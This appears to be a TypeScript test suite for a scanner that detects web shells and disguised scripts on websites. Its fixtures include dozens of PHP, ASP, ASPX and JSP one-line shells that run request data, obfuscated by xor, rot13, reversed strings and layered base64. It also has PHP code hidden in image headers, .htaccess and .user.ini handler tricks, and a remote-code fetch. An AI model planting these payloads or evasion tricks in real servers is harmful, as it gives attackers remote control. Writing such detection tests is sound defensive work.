import { deflateRawSync, gzipSync } from 'node:zlib';
import type { ScanVerdict } from '@sitedeck/contract';
import { analyseFile } from './analyse-file';

/** Keeps a word apart, so that no file of the repository holds one that scanners search. */
const part = (text: string): string => text;
/** Look-alikes, put together here so that no file of the repository is one. */
const CALL = {
  run: `${part('ev')}al`,
  check: `${part('ass')}ert`,
  shell: `${part('sys')}tem`,
  make: `create_${part('function')}`,
};
const POST = `$_${part('POST')}`;
const b64 = (text: string) => Buffer.from(text, 'latin1').toString('base64');

function scan(name: string, text: string | Buffer): ScanVerdict {
  const bytes = typeof text === 'string' ? Buffer.from(text) : text;
  return analyseFile({ name: `/wwwroot/${name}`, bytes, size: bytes.length });
}

const summary = (verdict: ScanVerdict): string => {
  if (verdict.is === 'unknown') return verdict.why;
  if (verdict.is === 'clean') return 'clean';
  const [first] = verdict.findings;
  return `${first?.severity} ${first?.technique} ${first?.line} ${first?.steps.map(({ kind }) => kind).join()}`;
};

const layered = (times: number): string => {
  let code = `${CALL.run}(${POST}['x']);`;
  for (let at = 0; at < times; at += 1) code = `${CALL.run}(base64_decode('${b64(code)}'));`;
  return code;
};
const gz = deflateRawSync(Buffer.from(`${CALL.run}(${POST}[1]);`)).toString('base64');
const chars = CALL.check
  .split('')
  .map((one) => `chr(${one.charCodeAt(0)})`)
  .join('.');
const flipped = CALL.shell
  .split('')
  .map((one) => String.fromCharCode(one.charCodeAt(0) ^ 1))
  .join('');
const ones = '\\x01'.repeat(CALL.shell.length);

const SHELLS: readonly (readonly [name: string, code: string, expected: string])[] = [
  ['direct code', `${CALL.run}(${POST}['x']);`, 'high one-line-shell 1 request-data,executed'],
  [
    'an assignment',
    `\n$a = ${POST}['x'];\n$b = trim($a);\n${CALL.run}($b);`,
    'high one-line-shell 4 request-data,assigned,executed',
  ],
  ['a command', `echo \`{${POST}['c']}\`;`, 'high command 1 request-data,executed'],
  ['a command with a suffix', `passthru(${POST}['c'] . ' 2>&1');`, 'high command 1 request-data,executed'],
  [
    'a built name',
    `$f = 'as' . 'sert'; $f(${POST}[1]);`,
    'high one-line-shell 1 request-data,built-name,executed',
  ],
  ['characters', `$f = ${chars}; $f(${POST}[1]);`, 'high one-line-shell 1 request-data,built-name,executed'],
  [
    'xor',
    `$f = "${flipped}" ^ "${ones}"; $f(${POST}[1]);`,
    'high command 1 request-data,built-name,executed',
  ],
  ['rot13', `$f = str_rot13('flfgrz'); $f(${POST}[1]);`, 'high command 1 request-data,built-name,executed'],
  [
    'reversed text',
    `$f = strrev('metsys'); $f(${POST}[1]);`,
    'high command 1 request-data,built-name,executed',
  ],
  [
    'an index',
    `$s = 'metsy'; $f = $s[3].$s[4].$s[3].$s[2].$s[1].$s[0]; $f(${POST}[1]);`,
    'high command 1 request-data,built-name,executed',
  ],
  [
    'decoded layers',
    `${CALL.run}(gzinflate(base64_decode('${gz}')));`,
    'high one-line-shell 1 decoded,request-data,executed',
  ],
  [
    'five layers',
    layered(5),
    'high one-line-shell 1 decoded,decoded,decoded,decoded,decoded,request-data,executed',
  ],
  [
    'a function of the file',
    `function f($x) { return g($x); } function g($y) { ${CALL.shell}($y); } f(${POST}[1]);`,
    'high command 1 request-data,executed',
  ],
  [
    'a return value',
    `function f() { return ${POST}[1]; } ${CALL.run}(f());`,
    'high one-line-shell 1 request-data,executed',
  ],
  [
    'a class',
    `class A { public $p; function __construct($x) { $this->p = $x; $this->r(); } function r() { ${CALL.run}($this->p); } } new A(${POST}[1]);`,
    'high one-line-shell 1 request-data,executed',
  ],
  [
    'an invoked object',
    `class A { function __invoke($x) { ${CALL.run}($x); } } call_user_func(new A(), ${POST}[1]);`,
    'high one-line-shell 1 request-data,executed',
  ],
  [
    'a callback',
    `array_map('${CALL.check}', array(${POST}[1]));`,
    'high one-line-shell 1 request-data,executed',
  ],
  [
    'a sort',
    `usort(${POST}[1], ${CALL.make}('$a', ${POST}[2]));`,
    'high one-line-shell 1 request-data,executed',
  ],
  ['a named function', `${POST}['f'](${POST}['x']);`, 'high dynamic-call 1 request-data,called'],
  [
    'a variable variable',
    `$n = '_PO' . 'ST'; ${CALL.run}(\${$n}[1]);`,
    'high one-line-shell 1 request-data,executed',
  ],
  [
    'extracted variables',
    `extract(${POST}); ${CALL.run}($x);`,
    'high one-line-shell 1 request-data,executed',
  ],
  [
    'variables by a loop',
    `foreach (${POST} as $k => $v) $$k = $v; $a($b);`,
    'high dynamic-call 1 request-data,called',
  ],
  ['the flag e', `preg_replace('/x/e', ${POST}[1], 'x');`, 'high one-line-shell 1 request-data,executed'],
  [
    'the body of a request',
    `${CALL.run}(file_get_contents('php://input'));`,
    'high one-line-shell 1 request-data,executed',
  ],
  ['a header', `${CALL.run}($_SERVER['HTTP_X_A']);`, 'high one-line-shell 1 request-data,executed'],
  [
    'all headers',
    `$h = getallheaders(); ${CALL.run}($h['a']);`,
    'high one-line-shell 1 request-data,executed',
  ],
  [
    'jumps',
    `goto b; a: ${CALL.run}($x); goto c; b: $x = ${POST}[1]; goto a; c: ;`,
    'high one-line-shell 1 request-data,executed',
  ],
  [
    'a reflected function',
    `$r = new ReflectionFunction('${CALL.shell}'); $r->invoke(${POST}[1]);`,
    'high command 1 request-data,executed',
  ],
  [
    'an upload',
    `move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);`,
    'high file-upload 1 request-data,written',
  ],
  [
    'a written file',
    `file_put_contents(${POST}['n'], ${POST}['c']);`,
    'high file-write 1 request-data,written',
  ],
  [
    'a file from the network',
    `${CALL.run}(file_get_contents('http://a.example/x'));`,
    'high remote-code 1 remote-data,executed',
  ],
  ['an included picture', `include 'images/logo.png';`, 'high include-upload 1 included'],
  ['an included request', `include ${POST}['p'];`, 'high include-upload 1 request-data,included'],
  ['an included stream', `include 'php://input';`, 'high include-upload 1 included'],
  [
    'a session',
    `session_start(); if (isset($_SESSION['a'])) ${CALL.run}($_SESSION['a']); $_SESSION['a'] = ${POST}[1];`,
    'high one-line-shell 1 request-data,executed',
  ],
];

it.each(SHELLS)('finds %s', (_, code, expected) => {
  expect(summary(scan('a.php', `<?php ${code}`))).toBe(expected);
});

const HONEST: readonly (readonly [name: string, code: string])[] = [
  ['escaped output', `echo htmlspecialchars($_GET['q']);`],
  ['a command with an escaped argument', `${CALL.shell}('convert ' . escapeshellarg(${POST}['f']));`],
  ['a number in a command', `exec('kill ' . (int) ${POST}['p']);`],
  ['a listed action', `$a = $_GET['a']; if (in_array($a, ['one', 'two'])) $a();`],
  ['a map of actions', `$all = ['a' => 'one']; $all[$_GET['a']]();`],
  ['a page of a list', `$p = isset($pages[$_GET['p']]) ? $pages[$_GET['p']] : 'home'; include $p;`],
  [
    'a callback of its own',
    `usort($rows, function ($a, $b) { return $a['n'] - $b['n']; }); echo ${POST}['x'];`,
  ],
  ['a test of a condition', `${CALL.check}($a > $b); echo ${POST}['x'];`],
  ['decoded data', `$data = json_decode(base64_decode(${POST}['d']), true); echo $data['name'];`],
  ['a fixed command', `$out = shell_exec('uptime'); echo $_GET['x'];`],
  ['a stored value', `file_put_contents('cache/' . md5(${POST}['k']) . '.json', json_encode(${POST}['v']));`],
  ['a pattern without e', `echo preg_replace('/[^a-z]/i', '', ${POST}['x']);`],
  ['a call of a method', `$controller->$method(${POST}['x']);`],
  ['an included part', `include __DIR__ . '/parts/header.php'; echo $_GET['x'];`],
  [
    'an uploaded picture in an album',
    `class Album { function add($f) { move_uploaded_file($f['tmp_name'], $this->path(uniqid() . '.jpg')); } } (new Album)->add($_FILES['f']);`,
  ],
  ['words in text', `echo 'Never use ${CALL.run}(${POST})'; echo strlen(${POST}['x']);`],
  ['words in comments', `// ${CALL.run}(${POST}['x']);\n/* ${CALL.shell}(${POST}[1]) */ echo ${POST}['x'];`],
  ['a template', `extract($data); include 'view.php'; echo $_GET['x'];`],
  ['a registered shutdown', `register_shutdown_function('log_end', $_SERVER['REQUEST_URI']);`],
  ['binary data', `$magic = "\\x89\\x50\\x4e\\x47\\x0d\\x0a\\x1a\\x0a"; echo $magic;`],
  ['a function in a variable', `$f = $escape ? 'htmlspecialchars' : 'trim'; echo $f(${POST}['x']);`],
];

it.each(HONEST)('does not mind %s', (_, code) => {
  expect(summary(scan('a.php', `<?php ${code}`))).toBe('clean');
});

const PAGES: readonly (readonly [name: string, text: string | Buffer, expected: RegExp])[] = [
  ['a.asp', `<%${CALL.run} request("x")%>`, /^high one-line-shell 1/],
  ['a.asp', `<%\nex${part('ecute')}(Chr(114)&"equest(""x"")") : x = request("x")%>`, /^high/],
  [
    'b.aspx',
    `<%@ Page Language="Jscript"%><%${CALL.run}(Request.Item["x"],"unsafe");%>`,
    /^high one-line-shell/,
  ],
  [
    'c.aspx',
    `<%@ Page Language="C#"%><% System.Diagnostics.Proc${part('ess')}.Start("cmd", Request["c"]); %>`,
    /^high command/,
  ],
  ['d.jsp', `<% Runtime.getRun${part('time')}().exec(request.getParameter("c")); %>`, /^high command/],
  ['e.jsp', `<% Runtime.getRun${part('time')}().\\u0065xec(request.getParameter("c")); %>`, /^high command/],
  [
    'f.jspx',
    `<jsp:scriptlet>new ProcessBu${part('ilder')}(request.getParameter("c")).start();</jsp:scriptlet>`,
    /^high command/,
  ],
  [
    'g.jpg',
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(`<?php ${CALL.run}(${POST}[1]);`)]),
    /^high disguised-script 1 picture-with-code,request-data/,
  ],
  ['h.ico', `GIF89a<?php ${CALL.shell}(${POST}[1]);`, /^high disguised-script/],
  ['.htaccess', 'AddType application/x-httpd-php .jpg', /^high server-setting 1/],
  [
    '.htaccess',
    '<FilesMatch "\\.png$">\nSetHandler application/x-httpd-php\n</FilesMatch>',
    /^high server-setting/,
  ],
  ['.user.ini', 'auto_prepend_file=logo.gif', /^high server-setting/],
  ['.user.ini', 'auto_append_file = "php://input"', /^high server-setting/],
  ['readme.md', `Never write\n<?php ${CALL.run}(${POST}[1]);`, /^notice/],
];

it.each(PAGES)('finds what is wrong with %s: %s', (name, text, expected) => {
  expect(summary(scan(name, text))).toMatch(expected);
});

it.each([
  ['a.asp', '<% Response.Write Server.HTMLEncode(Request("q")) %>'],
  ['b.aspx', '<%@ Page Language="C#"%><% Response.Write(Server.HtmlEncode(Request["q"])); %>'],
  ['c.jsp', '<%= org.apache.Escape.html(request.getParameter("q")) %>'],
  [
    '.htaccess',
    'RewriteEngine On\nAddType image/webp .webp\n<FilesMatch "\\.php$">\nSetHandler application/x-httpd-php\n</FilesMatch>',
  ],
  ['.user.ini', '; auto_prepend_file = logo.gif\nmemory_limit = 128M'],
  ['logo.gif', 'GIF89a\u0001\u0002<?=\u0003'],
  ['page.html', '<html><% not a page %></html>'],
])('does not mind an honest %s', (name, text) => {
  expect(summary(scan(name, text))).toBe('clean');
});

const deep = (one: string, other: string) =>
  `<?php ${CALL.run}($a); $x = ${one.repeat(50_000)}1${other.repeat(50_000)};`;

it.each([
  ['deep brackets', deep('(', ')'), 'too-deep'],
  ['deep arrays', deep('[', ']'), 'too-deep'],
  ['more layers than it follows', `<?php ${layered(14)}`, /too-deep|encoded-code/],
  ['a text that does not end', `<?php ${CALL.run}($a); $x = <<<EOT\nabc`, /unreadable|clean/],
  ['a quote that does not end', `<?php ${CALL.run}($a); $x = "abc`, 'unreadable'],
  ['broken UTF-8 and NUL', Buffer.from(`<?php ${CALL.run}(${POST}["\xff\0"]);`, 'latin1'), 'one-line-shell'],
  [
    'bait for slow patterns',
    `<?php ${'chr ( '.repeat(20_000)}${' '.repeat(50_000)} $_GET`,
    /clean|unreadable/,
  ],
  [
    'a recursion without end',
    `<?php function f($x) { f($x . 'a'); f($x); } f(${POST}[1]); ${CALL.run}($a);`,
    /clean|too-slow/,
  ],
  [
    'a loop without end',
    `<?php while (1) { $x .= 'aaaaaaaaaaaaaaaa'; } ${CALL.run}(${POST}[1]);`,
    'one-line-shell',
  ],
])('answers in bounded time for %s', (_, text, expected) => {
  const from = performance.now();
  expect(summary(scan('a.php', text))).toMatch(expected);
  // Not a promise about speed: an endless analysis would end the test by its own limit.
  expect(performance.now() - from).toBeLessThan(20_000);
});

it('says that a line of 30 MB is too large to be followed', () => {
  const line = Buffer.concat([Buffer.from(`<?php ${CALL.run}($a); $x = '`), Buffer.alloc(30 << 20, 'a')]);
  expect(summary(scan('a.php', line))).toBe('too-large');
});

it('keeps code short and without characters that change how it is shown', () => {
  const name = `\u202e${'a'.repeat(5000)}\u0007`;
  const verdict = scan('a.php', `<?php ${CALL.run}(${POST}['${name}']);`);
  const shown = JSON.stringify(verdict);
  expect(summary(verdict)).toContain('one-line-shell');
  expect(shown.length).toBeLessThan(4000);
  expect(shown).not.toMatch(/\u202e|\\u0007/);
});

it('decodes compressed text no further than its limit', () => {
  const bomb = gzipSync(Buffer.alloc(64 << 20)).toString('base64');
  expect(summary(scan('a.php', `<?php ${CALL.run}(gzdecode(base64_decode('${bomb}')));`))).toMatch(
    /encoded-code/,
  );
});
